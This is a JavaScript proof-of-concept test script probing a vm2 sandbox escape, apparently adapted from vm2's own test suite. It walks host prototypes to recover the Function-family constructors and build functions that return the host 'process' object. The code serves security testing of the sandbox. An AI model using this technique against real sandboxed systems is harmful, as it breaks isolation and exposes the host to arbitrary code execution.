// Source: vm2 test/vm.js "Function constructor extraction and code execution", "AsyncFunction
// constructor extraction ...", "GeneratorFunction constructor extraction ...", "AsyncGeneratorFunction
// constructor extraction ...". The originals pass host async/generator functions in; this sandbox
// has none, so the prototypes are taken from the host functions it does have and from sandbox ones.
// Tried: take each Function-family constructor out of a descriptor with host Object.entries.
// vm2 3.12 refuses the host `__proto__` getter this walk starts from (GHSA-88hf); so that the rest of
// the PoC still runs, it falls back to Object.getPrototypeOf, answered with vm2's mapped prototypes.
const out = {};
const g = ({}).__lookupGetter__;
const a = Buffer.apply;
let p, ho;
try { p = a.apply(g, [Buffer, ['__proto__']]); if (typeof p !== 'function') { out.getter = typeof p; p = { call: (x) => Object.getPrototypeOf(x) }; } ho = p.call(p.call(a)).constructor; } catch (e) { out.walk = String(e.message); }
const sources = { hostFunction: crypto.createHash, async: async function () {}, generator: function* () {}, asyncGenerator: async function* () {} };
for (const [name, fn] of Object.entries(sources)) {
  try {
    const proto = p.call(fn);
    const cd = ho.getOwnPropertyDescriptor(proto, 'constructor');
    const e = ho.entries(cd).find((v) => v[0] === 'value');
    e.shift();
    e.push([undefined, ['return process']]);
    const made = a.apply(a, e);
    out[name] = typeof made;
    __wr.use(made, name + ' constructor');
    if (typeof made === 'function') {
      const r = made();
      __wr.use(r, name + ' result');
      if (r && typeof r.next === 'function') __wr.use(r.next().value, name + ' next');
      if (r && typeof r.then === 'function') await r.then((v) => __wr.use(v, name + ' awaited'), () => undefined);
    }
  } catch (e) { out[name] = String(e.message).slice(0, 100); }
}
for (const [name, fn] of Object.entries(sources)) {
  try { __wr.use(Object.getPrototypeOf(fn).constructor, name + ' prototype constructor'); } catch (e) {}
}
return out;
